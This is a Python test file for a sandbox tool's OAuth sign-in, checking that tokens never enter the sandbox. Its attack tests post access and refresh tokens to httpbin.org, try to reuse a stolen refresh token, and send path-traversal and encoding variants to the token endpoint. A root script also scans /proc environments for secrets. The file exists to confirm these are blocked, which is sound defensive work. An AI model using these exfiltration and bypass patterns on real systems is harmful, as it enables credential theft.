"""`skerry agent --sign-in` against an authorization server in the tests' internet: the tokens stay outside of the
sandbox. The attacks are by programs inside and by other kits; tests/client/test_sign_in.py has the server's."""

from __future__ import annotations

import base64
import itertools
import json
import os
import re
import shutil
import stat
import subprocess
import sys
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from support.server import Server
from world import oauth
from world.world import World

from skerry import Client, Sandbox

KIT = Path(__file__).parent / "signing"
NUMBERS = itertools.count()


class User:
    """A user of that internet, with an own home directory and a browser that agrees to every sign-in."""

    def __init__(self, world: World, server: Server, home: Path) -> None:
        self.world, self.server, self.home, self.client = world, server, home, f"client-{next(NUMBERS)}"
        self.kit = KIT
        home.mkdir(exist_ok=True)

    def skerry(self, *words: str) -> subprocess.CompletedProcess[str]:
        kept = {"PATH": os.environ["PATH"], "HOME": str(self.home), "SKERRY_SERVER": self.server.address}
        return subprocess.run(
            [*self.world.inside, sys.executable, "-m", "skerry", *words], cwd=self.home, stdin=subprocess.DEVNULL,
            env={**kept, "SSL_CERT_FILE": str(self.world.home / "ca.pem")}, capture_output=True, text=True, timeout=100,
        )  # fmt: skip

    def agent(self, prompt: str, *words: str) -> tuple[int, Any, str]:
        """Run a prompt; return the status and the answer that the agent saw, and the messages for the user."""
        done = self.skerry("agent", "--kit", str(self.kit), "--no-repo", "-p", prompt, *words)
        try:
            status, found = json.loads(done.stdout)
        except ValueError:
            return -1, done.stdout, done.stderr
        return status, found, done.stderr

    def curl(self, *words: str) -> str:
        done = self.world.run("curl", "-sS", "--cacert", str(self.world.home / "ca.pem"), *words)
        assert done.returncode == 0, done.stderr
        return done.stdout

    def post(self, path: str) -> None:
        self.curl("-X", "POST", f"https://{oauth.LOGIN}{path}")

    def issued(self) -> dict[str, Any]:
        found: dict[str, Any] = json.loads(self.curl(f"https://{oauth.LOGIN}/issued"))
        return found

    def code(self, *words: str) -> str:
        """Begin a sign-in inside, agree to it in the browser, and return the code."""
        _, url, why = self.agent(f"begin {self.client}", *words)
        assert isinstance(url, str), why
        where = self.curl("-o", "/dev/null", "-w", "%{redirect_url}", url)
        found = re.search("code=([0-9a-f]+)", where)
        assert found is not None, where
        return found[1]

    def sign_in(self, *words: str) -> tuple[int, Any, str]:
        return self.agent(f"finish {self.code('--sign-in', *words)}", "--sign-in", *words)

    @property
    def signed(self) -> dict[str, Any]:
        """Return the stored sign-in."""
        found: dict[str, Any] = json.loads(json.loads(self.store.read_text())["services"]["signing"]["value"])
        return found

    def age(self, *, expired: bool = False) -> None:
        """Make the stored sign-in an older one; `expired`: it has ended."""
        file = json.loads(self.store.read_text())
        value = {**self.signed, "obtained_at": 1.0}
        if expired:
            value["expires_at"] = 2.0
        file["services"]["signing"]["value"] = json.dumps(value)
        self.store.write_text(json.dumps(file))

    @property
    def store(self) -> Path:
        return self.home / ".config" / "skerry" / "secrets.json"

    def sandbox(self, client: Client, name: str = "signing-scratch") -> Sandbox:
        return Sandbox.get(name, server=client)


@pytest.fixture
def user(world: World, world_server: Server, tmp_path: Path) -> Iterator[User]:
    world.reset()
    made = User(world, world_server, tmp_path / "home")
    yield made
    made.post("/mode")
    with Client(world_server.address) as client:
        for sandbox in Sandbox.list(server=client):
            sandbox.delete(force=True, purge=True)
    assert world.strays() == []


@pytest.fixture
def client(world_server: Server) -> Iterator[Client]:
    with Client(world_server.address) as made:
        yield made


def pieces(tokens: list[str]) -> list[str]:
    """Return texts that a leak of any part of a token would contain."""
    return [token[at : at + 24] for token in tokens for at in range(0, len(token) - 23, 12) if token.count(".") < 2] + [
        part[-40:] for token in tokens if token.count(".") == 2 for part in token.split(".")[1:]
    ]


def found_in(text: str, tokens: list[str]) -> list[str]:
    return [piece for piece in pieces(tokens) if piece in text]


def test_tokens_stay_outside_of_a_sign_in_a_call_and_a_refresh(user: User, client: Client) -> None:
    status, found, said = user.sign_in()
    assert status == 200, (found, said)
    assert "signed in as ada@example.test" in said
    assert found["access_token"].startswith("skerry-secret-SKERRY_SIGN_IN_SIGNING-")
    assert found["refresh_token"] == found["access_token"] + "-refresh"
    assert found["scope"] == "user:inference user:profile"
    assert 0 < found["expires_in"] <= 3600
    assert found["account"] == {"uuid": "u-1", "email_address": "ada@example.test"}
    assert not {"session_key", "nested"} & set(found)
    kept = base64.urlsafe_b64decode(found["id_token"].split(".")[1] + "==")
    assert json.loads(kept) == {
        "email": "ada@example.test", "sub": "ada", "https://api.openai.com/auth": {"chatgpt_account_id": "acc-1"},
    }  # fmt: skip
    sentinel, box = found["access_token"], user.sandbox(client)
    box.network.mirror(oauth.LOGIN, oauth.CLOUD)
    assert user.agent("call")[:2] == (200, {"user": "ada", "client": user.client})
    assert user.agent("get https://cloud.example.test/echo")[1]["authorization"].strip("*") == "Bearer "

    first = user.issued()
    user.age()
    user.post("/expire")
    status, found, said = user.agent("call")  # refreshes by itself
    assert (status, found) == (200, {"user": "ada", "client": user.client}), said
    issued = user.issued()
    assert len(issued["tokens"]) == len(first["tokens"]) + 3
    assert issued["requests"][-1] == {
        "grant_type": "refresh_token", "client_id": user.client, "refresh_token": first["tokens"][-2],
    }  # fmt: skip
    assert user.signed["refresh"] == issued["tokens"][-2]

    assert stat.S_IMODE(user.store.stat().st_mode) == 0o600
    listed = user.skerry("secret", "ls").stdout.splitlines()
    assert re.fullmatch(r"signing +file +\d+ s +for (59|60) min +cloud.example.test", listed[1]), listed
    shown = user.skerry("agent", "show", "--kit", str(KIT)).stdout
    assert "signing, at https://login.example.test/oauth/token, for cloud.example.test" in shown

    tokens = [token for token in issued["tokens"] if token not in first["tokens"]] + first["tokens"][-3:]
    trace = user.skerry("trace", box.id, "--json").stdout
    log = user.skerry("network", "log", box.id, "--json").stdout + user.skerry("audit", "show", "--json").stdout
    assert f"{sentinel}-refresh" in trace  # the mirrored request of the refresh
    assert found_in(trace + log + box.files.read_text("/home/user/.signing/credentials.json"), tokens) == []
    assert {file.parent.name for file, text in state_files(user.server) if found_in(text, tokens)} == {"secrets"}
    assert [file for file, text in state_files(user.server) if "real-refresh-" in text] == []
    box.files.write("/tmp/patterns", "\n".join(pieces(tokens)))
    script = "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -aF -f /tmp/patterns; "
    script += "grep -raslF -f /tmp/patterns / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr"
    assert box.run(["sh", "-c", script], user="root", timeout=60).stdout == "/tmp/patterns\n"  # the control
    box.files.remove("/tmp/patterns")


def state_files(server: Server) -> Iterator[tuple[Path, str]]:
    """Yield the smaller files of a server, which all its records are."""
    for file in server.state_dir.rglob("*"):
        with suppress(OSError):
            if file.is_file() and not file.is_symlink() and file.stat().st_size < 8 << 20:
                yield file, file.read_bytes().decode("latin-1")


def test_stored_sign_in_is_used_by_a_second_sandbox_and_after_a_refresh_elsewhere(user: User, client: Client) -> None:
    assert user.sign_in()[0] == 200
    other = ("--sign-in", "--name", "signing-other")
    assert user.agent("call", *other)[:2] == (200, {"user": "ada", "client": user.client})
    box = user.sandbox(client, "signing-other")
    kept = json.loads(box.files.read_text("/home/user/.signing/credentials.json"))
    assert kept["scopes"] == ["user:inference", "user:profile"]
    assert kept["expires_at"] > 1e12
    assert "key" not in kept
    assert box.files.read_text("/home/user/.signing/mode") == "oauth\n"
    assert box.run("stat -c %a .signing/credentials.json", cwd="/home/user").stdout == "600\n"
    user.age(expired=True)
    assert user.agent("call", *other)[0] == 200  # it was refreshed before the agent started
    count = len(user.issued()["requests"])
    assert user.agent("call")[0] == 200  # the first sandbox gets the new token, without another refresh
    assert len(user.issued()["requests"]) == count


def test_device_sign_in(user: User) -> None:
    status, found, said = user.agent(f"device {user.client}", "--sign-in")
    assert status == 200, (found, said)
    code = found["device_code"]
    status, found, said = user.agent(f"poll {user.client} {code}", "--sign-in")
    assert (status, found["error"], "signing:" in said) == (400, "authorization_pending", False)
    user.post("/agree")
    status, found, said = user.agent(f"poll {user.client} {code}", "--sign-in")
    assert (status, "signed in as ada@example.test" in said) == (200, True), (found, said)
    assert user.agent("call")[0] == 200


def test_revoked_and_removed_sign_in(user: User) -> None:
    assert user.sign_in()[0] == 200
    user.age()
    user.post("/revoke")
    status, found, said = user.agent("call")
    assert (status, found["error"]) == (400, "invalid_grant")
    assert "signing: the token endpoint answered invalid_grant; sign in again: skerry agent AGENT --sign-in" in said
    assert user.sign_in()[0] == 200  # in the same sandbox
    assert user.agent("call")[0] == 200
    assert user.skerry("secret", "rm", "signing").returncode == 0
    status, found, said = user.agent("refresh")
    assert (status, found["error"]) == (400, "invalid_grant")
    assert "no sign-in of signing is stored" in said


def test_a_value_of_the_store_is_not_a_sign_in_and_a_sign_in_not_a_value(user: User) -> None:
    assert user.sign_in()[0] == 200
    done = user.skerry("run", "--secret", "X=@signing", "--", "true")
    assert done.returncode == 2
    assert "signing is a sign-in, and no value for --secret" in done.stderr


# -- attacks by programs inside ----------------------------------------------------------------------------------------


def test_sign_in_that_the_user_did_not_ask_for_is_refused(user: User) -> None:
    """A program inside could sign the user in to an account of its author."""
    assert user.sign_in()[0] == 200
    before = user.signed
    status, found, said = user.agent(f"finish {user.code()}")
    assert (status, found["error"]) == (403, "access_denied")
    assert "a program in the sandbox began a sign-in that you did not ask for" in said
    assert user.signed == before


def test_sentinels_are_stopped_on_their_way_to_another_host(user: User, world: World) -> None:
    status, found, _ = user.sign_in("--inspect", "httpbin.org")
    assert status == 200
    assert user.agent("get https://httpbin.org/headers")[0] == 403
    for name in ("access_token", "refresh_token"):
        status, said, _ = user.agent(f"post https://httpbin.org/x value={found[name]}")
        assert status == 403
        assert "it carries the placeholder of secret SKERRY_SIGN_IN_SIGNING" in str(said)
    raw = "".join(call["raw"] for call in world.calls() if call["sni"] == "httpbin.org")
    assert found_in(raw, user.issued()["tokens"][-3:]) == []


def test_only_the_sentinel_of_this_sandbox_refreshes(user: User) -> None:
    assert user.sign_in()[0] == 200
    user.age()
    count = len(user.issued()["requests"])
    for text in (user.signed["refresh"], "skerry-secret-SKERRY_SIGN_IN_SIGNING-refresh", ""):
        status, found, _ = user.agent(f"steal {text}")
        assert (status, found["error"]) == (400, "invalid_grant")
    assert len(user.issued()["requests"]) == count


def test_no_other_request_reaches_the_host_of_the_token_endpoint(user: User, world: World) -> None:
    assert user.sign_in()[0] == 200
    world.reset()
    host = f"https://{oauth.LOGIN}"
    paths = (
        "/issued", "/oauth/token/", "//oauth/token", "/oauth/%74oken", "/OAUTH/TOKEN", "/oauth/token?x=1",
        "/x/../oauth/token", "/oauth/token;x", "/oauth/token%00", "/device/code?x", "/device/codes",
    )  # fmt: skip
    urls = [f"{host}{path}" for path in paths]
    urls += [f"http://{oauth.LOGIN}/oauth/token", f"{host}:8443/oauth/token", f"http://{oauth.LOGIN}:8080/oauth/token"]
    words = " ".join(f"--next -X POST --path-as-is -d grant_type=refresh_token&x=y {url}" for url in urls)
    said = user.agent(f"raw {words.removeprefix('--next ')}")
    assert [call["requests"] for call in world.calls() if call["sni"] == oauth.LOGIN or call["port"] == 80] == [], said
    assert "cloud.example.test" not in str(said)


def test_without_this_program_the_token_endpoint_is_closed(user: User, client: Client) -> None:
    assert user.sign_in()[0] == 200
    user.age()
    count = len(user.issued()["requests"])
    box = user.sandbox(client)
    status, found = json.loads(box.run(["signing", "refresh"]).stdout)
    assert (status, "its handler failed" in str(found)) == (502, True)
    (fork,) = box.fork(1)
    status, _ = json.loads(fork.run(["signing", "refresh"]).stdout)
    assert status == 502
    assert json.loads(fork.run(["signing", "call"]).stdout) == [200, {"user": "ada", "client": user.client}]
    assert len(user.issued()["requests"]) == count


def test_request_for_a_key_is_denied(user: User) -> None:
    assert user.sign_in()[0] == 200
    assert user.agent("get https://cloud.example.test/keys")[0] == 403
    assert user.agent("get https://cloud.example.test/whoami")[0] == 200


# -- attacks by kits ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new"),
    [("path: /oauth/token", "path: /other/token"), ("[cloud.example.test]", "[cloud.example.test, httpbin.org]")],
)
def test_kit_with_other_hosts_does_not_get_the_stored_sign_in(user: User, tmp_path: Path, old: str, new: str) -> None:
    assert user.sign_in()[0] == 200
    user.kit = _kit(tmp_path, old, new)
    _, _, said = user.agent("call", "--sign-in", "--name", "signing-evil")
    assert "this agent names other hosts for signing: it does not get that sign-in" in said
    assert user.skerry("ps").stdout.count("signing-evil") == 0


def test_kit_without_the_users_consent_has_no_token_endpoint_and_no_sign_in(user: User) -> None:
    assert user.sign_in()[0] == 200
    other = ("--name", "signing-plain")
    count = len(user.issued()["requests"])
    assert user.agent("run cd ~/.signing; cat mode; ls", *other)[1] == "none\nmode\n"
    assert user.agent(f"finish {user.code(*other)}", *other)[0] == 403
    assert len(user.issued()["requests"]) == count
    _, _, said = user.agent("call", "--sign-in", *other)
    assert "sandbox signing-plain was created for a key" in said


def test_kit_that_wants_the_tokens_inside_is_refused(user: User, tmp_path: Path) -> None:
    user.kit = _kit(tmp_path, "sentinels: {", "passthrough: true\n        sentinels: {")
    assert "wants the tokens of the sign-in in the sandbox" in user.agent("call", "--sign-in")[2]


def _kit(place: Path, old: str, new: str) -> Path:
    made = place / "kit"
    shutil.copytree(KIT, made)
    text = (made / "signing.yaml").read_text()
    assert old in text
    (made / "signing.yaml").write_text(text.replace(old, new))
    return made
